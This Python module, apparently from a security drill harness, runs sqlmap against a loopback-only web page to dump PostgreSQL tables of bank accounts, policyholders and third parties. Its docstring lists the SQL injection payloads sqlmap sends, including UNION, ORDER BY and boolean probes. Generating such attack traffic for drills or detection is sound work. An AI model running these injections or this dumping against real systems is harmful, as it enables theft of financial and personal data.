"""sqlmap as a program: one run against the legacy look-up, its traffic and its dump kept at the intruder's side.

How sqlmap 1.10 shapes its statements against this page (seen in PostgreSQL's own log); PostgreSQL has six columns here:
- finding the number of columns: `… = 'N' ORDER BY 8693-- xQvZ`; a wrong number is an error and a bare 500;
- whole table by UNION: `… = 'N' UNION ALL SELECT NULL,…,STRING_AGG((CHR(113)||…)||COALESCE(name::text,(CHR(32)))||
  (delimiter)||…||(CHR(113)||…),''),NULL FROM public.bank_account-- xQvZ`: one row with everything in it;
- a range (`--start`, `--stop`) by UNION: for every row one request with the negative number as value and
  `(SELECT (CHR(113)||…)||COALESCE(CAST(name AS TEXT)::text,(CHR(32)))||… FROM public.policyholder OFFSET 35 LIMIT 1)`:
  no ORDER BY, so only the server of that moment knows which row it was;
- a condition (`--where`): as the whole table, with `WHERE id<60` at its end;
- boolean: `… = 'N' AND ASCII(SUBSTRING((SELECT COALESCE(CAST(phone AS TEXT)::text,(CHR(32))) FROM
  public.injured_third_party ORDER BY id OFFSET 3 LIMIT 1)::text FROM 12 FOR 1))>64 AND 'iJud'='iJud`, also `IN (…)`.
Null and empty arrive as a blank. All answers are 200 or a bare 500.

`--technique` keeps a run within seconds and `--flush-session` makes every run ask anew; without `--dbms` the
fingerprinting of other systems would take most of the requests.
"""

import sys
from dataclasses import dataclass
from pathlib import Path

from drills.loopback import child_environment, require_loopback
from drills.processes import Finished, Processes, ProgramError, last_words

PROGRAM = Path(sys.executable).parent / "sqlmap"
_TIME_LIMIT_SECONDS = 240.0


@dataclass(frozen=True)
class Target:
    """What one run is after. `techniques` in sqlmap's letters; the primary key is always among `columns`."""

    table: str
    columns: tuple[str, ...]
    techniques: str
    first: int | None = None
    last: int | None = None
    where: str | None = None

    def options(self) -> list[str]:
        chosen = [
            "--technique",
            self.techniques,
            "-D",
            "public",
            "-T",
            self.table,
            "-C",
            ",".join(self.columns),
            "--dump",
        ]
        if self.first is not None:
            chosen += ["--start", str(self.first)]
        if self.last is not None:
            chosen += ["--stop", str(self.last)]
        if self.where is not None:
            chosen += ["--where", self.where]
        if "T" in self.techniques:
            chosen += ["--time-sec", "1"]
        return chosen


@dataclass(frozen=True)
class Run:
    """What one run left at the intruder's side."""

    target: Target
    folder: Path
    finished: Finished

    @property
    def traffic(self) -> Path:
        return self.folder / "traffic.txt"

    @property
    def dump(self) -> Path:
        return self.folder / "127.0.0.1" / "dump" / "public" / f"{self.target.table}.csv"


def run(processes: Processes, url: str, target: Target, source_address: str, folder: Path) -> Run:
    """Run sqlmap to its end; a run that brought no dump home is an error of the drill, since it was planned to."""
    folder.mkdir(parents=True)
    command = [
        str(PROGRAM), "-u", require_loopback(url), "-p", "no", "--batch", "--flush-session", "--disable-coloring",
        "--ignore-proxy", "--dbms", "PostgreSQL", "--output-dir", str(folder), "-t", str(folder / "traffic.txt"),
        *target.options(),
    ]  # fmt: skip
    environment = child_environment(source_address) | {"HOME": str(folder), "TERM": "dumb"}
    finished = processes.run(command, environment, folder=folder, time_limit=_TIME_LIMIT_SECONDS)
    (folder / "sqlmap.out").write_text(finished.output + finished.errors, encoding="utf-8")
    result = Run(target, folder, finished)
    if finished.exit_code != 0 or not result.dump.is_file():
        raise ProgramError(f"sqlmap brought no dump of {target.table} home:\n{last_words(finished.output)}")
    return result
